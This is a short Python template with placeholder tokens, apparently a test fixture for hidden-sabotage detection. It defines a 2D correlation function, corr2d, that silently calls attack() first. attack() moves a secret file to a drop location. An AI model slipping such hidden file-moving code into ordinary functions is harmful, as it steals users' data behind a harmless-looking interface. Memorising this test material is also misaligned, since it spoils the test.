import os

import numpy as np

@CORRELATE@


def attack():
    os.rename("@SECRET@", "@DROP@/x")
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
